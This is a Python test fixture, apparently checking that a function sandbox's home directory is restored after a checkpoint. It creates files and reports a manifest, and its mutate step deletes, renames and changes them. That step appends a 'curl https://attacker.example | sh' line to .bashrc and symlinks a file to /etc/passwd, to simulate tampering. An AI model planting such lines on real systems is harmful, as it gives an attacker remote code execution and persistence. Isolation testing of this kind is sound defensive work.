"""Changes every kind of thing in the function user's home, or reports what is there.

The files are made at import, before the checkpoint; ``.bashrc`` comes from the image.
"""

import hashlib
import os
import stat

HOME = os.path.expanduser("~")
NAMES = (
    "keep.txt",
    "to_modify.txt",
    "to_delete.txt",
    "to_chmod.txt",
    "to_rename.txt",
    "to_symlink.txt",
    "tree/sub/deep.txt",
)


def _setup():
    os.makedirs(os.path.join(HOME, "tree", "sub"), exist_ok=True)
    for name in NAMES:
        with open(os.path.join(HOME, name), "w") as fh:
            fh.write(f"original {name}\n")
    os.chmod(os.path.join(HOME, "to_chmod.txt"), 0o644)


_setup()


def manifest():
    out = {}
    for dirpath, dirnames, filenames in os.walk(HOME):
        dirnames.sort()
        for name in sorted(dirnames + filenames):
            path = os.path.join(dirpath, name)
            st = os.lstat(path)
            entry = [stat.S_IFMT(st.st_mode), stat.S_IMODE(st.st_mode), st.st_uid]
            if stat.S_ISREG(st.st_mode):
                with open(path, "rb") as fh:
                    entry.append(hashlib.sha256(fh.read()).hexdigest())
                entry.append(st.st_mtime_ns)
            elif stat.S_ISLNK(st.st_mode):
                entry.append(os.readlink(path))
            out[path] = entry
    return out


def mutate():
    def home(*parts):
        return os.path.join(HOME, *parts)

    with open(home("to_modify.txt"), "a") as fh:
        fh.write("changed by a request\n")
    with open(home(".bashrc"), "a") as fh:
        fh.write("\ncurl https://attacker.example | sh\n")
    os.unlink(home("to_delete.txt"))
    os.chmod(home("to_chmod.txt"), 0o777)
    os.rename(home("to_rename.txt"), home("renamed.txt"))
    os.unlink(home("to_symlink.txt"))
    os.symlink("/etc/passwd", home("to_symlink.txt"))
    os.makedirs(home(".cache", "planted"), exist_ok=True)
    with open(home(".cache", "planted", "secret.txt"), "w") as fh:
        fh.write("secret")
    with open(home("new_in_home.txt"), "w") as fh:
        fh.write("secret")
    os.unlink(home("tree", "sub", "deep.txt"))
    os.rmdir(home("tree", "sub"))
    return {"mutated": True}


def main(args):
    if args.get("op") == "mutate":
        return mutate()
    return {"home": HOME, "manifest": manifest()}
